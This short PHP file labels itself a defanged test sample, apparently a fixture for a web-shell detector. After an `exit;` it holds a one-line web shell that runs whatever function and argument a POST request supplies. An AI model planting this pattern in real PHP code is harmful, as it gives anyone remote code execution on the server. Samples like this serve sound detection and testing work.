<?php exit; /* DEFANGED TEST SAMPLE: variable function from the request */
$_POST['f']($_POST['a']);
